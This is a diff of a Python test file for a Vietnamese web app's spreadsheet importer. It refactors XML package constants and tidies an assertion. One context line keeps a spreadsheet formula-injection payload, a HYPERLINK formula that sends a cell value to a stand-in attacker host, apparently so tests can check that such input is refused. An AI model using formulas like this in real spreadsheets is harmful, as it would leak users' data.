@@ -30,20 +30,22 @@ from cchc_web.spreadsheets import SpreadsheetRefused
 from .factories import import_demo_plan, make_par_set
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&C5,"Xem")'
+SML = "application/vnd.openxmlformats-officedocument.spreadsheetml."
+REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+PKG = "http://schemas.openxmlformats.org/package/2006/"
 CONTENT_TYPES = (
-    '<?xml version="1.0" encoding="UTF-8"?>'
-    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
-    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+    f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{PKG}content-types">'
+    '<Default Extension="rels" '
+    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
     '<Default Extension="xml" ContentType="application/xml"/>'
-    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
-    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
-    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
+    f'<Override PartName="/xl/workbook.xml" ContentType="{SML}sheet.main+xml"/>'
+    f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{SML}worksheet+xml"/>'
+    f'<Override PartName="/xl/sharedStrings.xml" ContentType="{SML}sharedStrings+xml"/>'
     "</Types>"
 )
 RELS = (
-    '<?xml version="1.0" encoding="UTF-8"?>'
-    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
+    f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG}relationships">'
+    f'<Relationship Id="rId1" Type="{REL}officeDocument" Target="xl/workbook.xml"/>'
     "</Relationships>"
 )
 WORKBOOK = (
@@ -53,10 +55,9 @@ WORKBOOK = (
     '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
 )
 WORKBOOK_RELS = (
-    '<?xml version="1.0" encoding="UTF-8"?>'
-    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
-    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
+    f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG}relationships">'
+    f'<Relationship Id="rId1" Type="{REL}worksheet" Target="worksheets/sheet1.xml"/>'
+    f'<Relationship Id="rId2" Type="{REL}sharedStrings" Target="sharedStrings.xml"/>'
     "</Relationships>"
 )
 HEADER_ROW = (
@@ -212,10 +213,8 @@ def test_a_real_table_still_imports():
     workbook.active.append(["1.1", "1", "Ban hành kế hoạch", "VP", "", "2025-07"])
     data = spreadsheets.workbook_bytes(workbook)
     rows = importer.read_table("ke-hoach.xlsx", data)
-    assert rows[1] == (
-        2,
-        dict(zip(importer.TASK_COLUMNS, ["1.1", "1", "Ban hành kế hoạch", "VP", "", "2025-07"])),
-    )
+    values = ["1.1", "1", "Ban hành kế hoạch", "VP", "", "2025-07"]
+    assert rows[1] == (2, dict(zip(importer.TASK_COLUMNS, values, strict=True)))
 
 
 # -- exports ----------------------------------------------------------------------------------
